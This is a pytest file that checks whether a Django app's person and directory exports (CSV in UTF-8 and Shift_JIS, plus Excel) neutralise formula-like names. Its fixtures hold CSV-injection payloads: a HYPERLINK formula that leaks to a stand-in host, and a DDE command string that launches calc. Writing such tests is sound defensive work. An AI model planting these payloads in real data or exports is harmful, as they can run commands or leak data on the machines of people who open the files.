"""Every export path writes cells through the one shared neutraliser (common.text.neutralise_formula): a person
named like a formula comes out as text in the person export (CSV UTF-8, CSV Shift_JIS, Excel) and in the directory
export; the CSV can be had in UTF-8 with a BOM or in Shift_JIS."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from yorisoi.cases.tests.factories import CaseFactory
from yorisoi.partners.tests.factories import OrganizationFactory
from yorisoi.people.tests.factories import PersonFactory
from yorisoi.privacy.models import ExportRequest

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.invalid/?leak","開く")'


@pytest.fixture
def formula_person(center, worker):
    return CaseFactory(person=PersonFactory(center=center, family_name=FORMULA, given_name="@SUM(1+1)"),
                       main_staff=worker).person


def exported(worker_client, director_client, file_format: str):
    worker_client.post(f"{reverse('reports:export_create')}?target=persons",
                       {"file_format": file_format, "reason": "数式の無害化の確認（架空）"})
    export_request = ExportRequest.objects.latest("id")
    director_client.post(reverse("reports:export_decide", args=[export_request.pk]), {"decision": "approve"})
    response = worker_client.post(reverse("reports:export_download", args=[export_request.pk]))
    assert response.status_code == 200
    return response, response.getvalue()


def test_csv_utf8_export_neutralises_a_formula_name(formula_person, worker_client, director_client):
    response, body = exported(worker_client, director_client, "csv")
    assert body.startswith(b"\xef\xbb\xbf") and "utf-8" in response["Content-Type"]
    cells = [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]
    assert "'" + FORMULA in cells and "'@SUM(1+1)" in cells
    assert FORMULA not in cells


def test_csv_shift_jis_export_neutralises_a_formula_name(formula_person, worker_client, director_client):
    response, body = exported(worker_client, director_client, "csv_sjis")
    assert "shift_jis" in response["Content-Type"] and not body.startswith(b"\xef\xbb\xbf")
    cells = [c for row in csv.reader(io.StringIO(body.decode("cp932"))) for c in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert ".csv" in response["Content-Disposition"]


def test_xlsx_export_neutralises_a_formula_name(formula_person, worker_client, director_client):
    _, body = exported(worker_client, director_client, "xlsx")
    book = load_workbook(io.BytesIO(body))
    values = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    names = [c for c in values if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert names and all(c.value == "'" + FORMULA and c.data_type == "s" for c in names)


def test_shift_jis_export_replaces_characters_it_cannot_hold(center, worker, worker_client, director_client):
    CaseFactory(person=PersonFactory(center=center, family_name="架空😀", given_name="太郎"), main_staff=worker)
    _, body = exported(worker_client, director_client, "csv_sjis")
    assert "架空〓" in body.decode("cp932")


def test_directory_export_neutralises_formulas_in_both_csv_encodings_and_xlsx(center, director, director_client):
    OrganizationFactory(center=center, name="+CMD|' /C calc'!A0")
    utf8 = director_client.get(reverse("partners:export"), {"format": "csv"}).content
    sjis = director_client.get(reverse("partners:export"), {"format": "csv_sjis"})
    assert "shift_jis" in sjis["Content-Type"]
    for text in (utf8.decode("utf-8-sig"), sjis.content.decode("cp932")):
        assert "'+CMD|' /C calc'!A0" in [c for row in csv.reader(io.StringIO(text)) for c in row]
    book = load_workbook(io.BytesIO(director_client.get(reverse("partners:export"), {"format": "xlsx"}).content))
    assert "'+CMD|' /C calc'!A0" in [c.value for row in book.active.iter_rows() for c in row]
